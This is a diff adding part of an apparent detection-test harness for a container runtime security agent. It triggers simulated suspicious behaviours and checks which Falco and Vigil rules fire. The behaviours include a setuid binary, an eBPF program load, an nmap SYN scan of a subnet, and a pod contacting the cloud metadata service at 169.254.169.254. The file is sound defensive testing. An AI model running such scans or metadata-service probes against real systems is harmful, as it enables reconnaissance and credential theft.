+    p = L.copy_program("/bin/true", os.path.join(c.dir(b), "suid"))
+    c.py(b, f"import os\nos.chmod('{p}', 0o4755)")
+
+
+@behaviour("bpf-prog-load", "an eBPF socket filter loaded with bpf(BPF_PROG_LOAD)", "BPF Program Not Profiled" + INC,
+           "BPF program loaded by other program")
+def _(c, b):
+    c.py(b, BPF_LOAD, env={"PYTHONPATH": LIVE})
+
+
+BPF_LOAD = """
+import livelib as L, ctypes, os
+insns = (ctypes.c_uint64 * 2)(0x00000000000000b7, 0x0000000000000095)  # r0 = 0; exit
+lic = ctypes.create_string_buffer(b'GPL')
+attr = (ctypes.c_uint8 * 128)()
+ctypes.memmove(attr, (ctypes.c_uint32 * 2)(1, 2), 8)  # prog_type SOCKET_FILTER, insn_cnt 2
+ctypes.memmove(ctypes.byref(attr, 8), (ctypes.c_uint64 * 2)(ctypes.addressof(insns), ctypes.addressof(lic)), 16)
+fd = L.syscall('bpf', 5, attr, 128)
+if fd >= 0:
+    os.close(fd)
+"""
+
+
+@behaviour("network-tool-pod", "nmap run in a pod", "Launch Suspicious Network Tool in Container" + INC,
+           "Network scanner or sniffer run in container", POD)
+def _(c, b):
+    c.runner(b)([c.tool(b, "nmap"), "-sS", "10.0.0.0/24", "-oN", "/dev/null/" + b.token])
+
+
+@behaviour("package-manager-pod", "apt-get run in a pod", "Launch Package Management Process in Container" + INC,
+           "Package manager run in container", POD)
+def _(c, b):
+    c.runner(b)(["apt-get", "--version", "-o", "Debug::" + b.token + "=0"])
+
+
+@behaviour("metadata-service-pod", "a pod connects to the cloud metadata service", "Contact cloud metadata service from container" + INC,
+           "Cloud metadata service contacted from container", POD)
+def _(c, b):
+    c.py(b, CONNECT.format(fam="AF_INET", ip="169.254.169.254", port=80))
+
+
+# ---------------------------------------------------------------------------
+# Running it
+# ---------------------------------------------------------------------------
+
+
+def run_all(vigil, repo, falco_rules, workdir, only=None):
+    """`falco_rules`: Falco's stable file; its incubating file next to it is loaded too."""
+    os.makedirs(workdir, exist_ok=True)
+    drain_rules = os.path.join(workdir, "drain_rules.yaml")
+    with open(drain_rules, "w") as f:
+        f.write(L.DRAIN_RULE)
+    state = os.path.join(workdir, "containerd")
+    falco_files = []
+    if falco_rules:
+        falco_files = [falco_rules]
+        inc = os.path.join(os.path.dirname(falco_rules), "falco-incubating_rules.yaml")
+        if os.path.exists(inc):
+            falco_files.append(inc)
+    rules = [os.path.join(repo, "rules", "vigil_rules.yaml")] + falco_files + [drain_rules]
+    agent = L.Agent(vigil, os.path.join(repo, "rules", "vigil.yaml"), rules, workdir,
+                    options=["rule_matching=all", f"containerd.state_root={state}", "crio.enabled=false"])
+    cg = L.cgroup2_root()
+    base = "vigil-" + os.path.basename(workdir)
+    pods = {
+        POD: L.Pod(cg, base, state, "web-7d9c8b6f5-k2x8q", "shop", "docker.io/library/nginx:1.27", container="nginx"),
+        PRIV: L.Pod(cg, base, state, "node-debugger-x1", "ops", "docker.io/library/busybox:1.36", container="debug",
+                    privileged=True),
+    }
+    ctx = Ctx(workdir, pods)
+    selected = [b for b in BEHAVIOURS if not only or b.id in only]
+    errors = {}
+    try:
+        agent.wait_ready()
+        for p in pods.values():
+            agent.warm_up(p)
+        threads = []
+        for b in [x for x in selected if x.background]:
+            t = threading.Thread(target=_guard, args=(b, ctx, errors))
+            t.start()
+            threads.append(t)
+        for b in [x for x in selected if not x.background]:
+            _guard(b, ctx, errors)
+        for t in threads:
+            t.join()
+        alerts = agent.drain()
+        # Alerts may still be held for metadata; wait until every behaviour has its alerts, or the deadline.
+        alerts = agent.wait_for_alerts(lambda a: all(_complete(b, a, falco_rules) for b in selected), 20)
+    finally:
+        rc = agent.stop()
+        for p in pods.values():
+            p.cleanup()
+        for d in (os.path.join("/var/log", "vigil-" + os.path.basename(workdir)),
+                  os.path.join("/dev/shm", "vigil-" + os.path.basename(workdir))):
+            shutil.rmtree(d, ignore_errors=True)
+    alerts = agent.alerts()
+    report = {"agent_exit": rc, "agent_log": agent.log_tail(5), "behaviours": []}
+    for b in selected:
+        loaded = falco_rules if (not b.incubating or len(falco_files) > 1) else None
+        report["behaviours"].append(_evaluate(b, alerts, pods, loaded, errors.get(b.id)))
+    return report
+
+
+def _guard(b, ctx, errors):
+    try:
+        b.fn(ctx, b)
+    except Exception as e:  # recorded in the report; the test fails on it
+        errors[b.id] = f"{type(e).__name__}: {e}"
+
+
+def _mine(b, alerts):
+    return [a for a in alerts if b.token in a.get("output", "")]
+
+
+def _complete(b, alerts, falco_rules):
+    rules = {a.get("rule") for a in _mine(b, alerts)}
+    falco_ok = not (falco_rules and b.falco and not b.note) or b.falco in rules
+    return falco_ok and any(v in rules for v in b.vigil)
+
+
+def _evaluate(b, alerts, pods, falco_rules, error):
+    mine = _mine(b, alerts)
+    fired = sorted({a["rule"] for a in mine})
+    vigil_hits = [a for a in mine if a["rule"] in b.vigil]
+    pod = pods.get(b.where)
+    attributed = None
+    if pod and vigil_hits:
+        def named(a):
+            of = a.get("output_fields", {})
+            return (of.get("container.id") == pod.short_id and of.get("k8s.pod.name") == pod.name
+                    and of.get("k8s.ns.name") == pod.namespace)
+        attributed = any(named(a) for a in vigil_hits)
+        vigil_hits.sort(key=lambda a: not named(a))
+    return {
+        "id": b.id, "what": b.what, "where": b.where, "falco_rule": b.falco, "incubating": b.incubating,
+        "vigil_rules": b.vigil, "note": b.note,
+        "error": error, "fired": fired,
+        "falco_fired": (b.falco in fired) if (b.falco and falco_rules) else None,
+        "falco_expected": bool(b.falco and falco_rules and not b.note),
+        "vigil_fired": [r for r in b.vigil if r in fired],
+        "pod_attributed": attributed,
+        "vigil_alert": ({k: v for k, v in vigil_hits[0].get("output_fields", {}).items()
+                         if k.startswith(("container.", "k8s.", "proc.name", "proc.cmdline", "fd.name"))}
+                        if vigil_hits else None),
+    }
+
+
+def table():
+    rows = ["| Behaviour (live test id) | Where | Falco rule | Vigil rule | Gap |", "|---|---|---|---|---|"]
+    for b in BEHAVIOURS:
+        falco = (b.falco + (" (incubating)" if b.incubating else "")) if b.falco else "—"
+        rows.append(f"| {b.what} (`{b.id}`) | {b.where} | {falco} | {' / '.join(b.vigil)} | {b.note or ''} |")
+    return "\n".join(rows)
+
+
+def main():
+    ap = argparse.ArgumentParser()
+    ap.add_argument("--vigil")
+    ap.add_argument("--repo")
+    ap.add_argument("--falco-rules")
+    ap.add_argument("--out")
+    ap.add_argument("--workdir", default=f"/var/tmp/vigil-live-{os.getpid()}")
+    ap.add_argument("--only", nargs="*")
+    ap.add_argument("--table", action="store_true")
+    ap.add_argument("--keep-alerts", help="copy the agent's alert stream here")
+    a = ap.parse_args()
+    if a.table:
+        print(table())
+        return 0
+    try:
+        report = run_all(a.vigil, a.repo, a.falco_rules, a.workdir, set(a.only or []))
+    finally:
+        if a.keep_alerts and os.path.exists(os.path.join(a.workdir, "alerts.jsonl")):
+            shutil.copyfile(os.path.join(a.workdir, "alerts.jsonl"), a.keep_alerts)
+        shutil.rmtree(a.workdir, ignore_errors=True)
+    text = json.dumps(report, indent=1)
+    if a.out:
+        with open(a.out, "w") as f:
+            f.write(text)
+    else:
+        print(text)
+    return 0
+
+
+if __name__ == "__main__":
+    sys.exit(main())
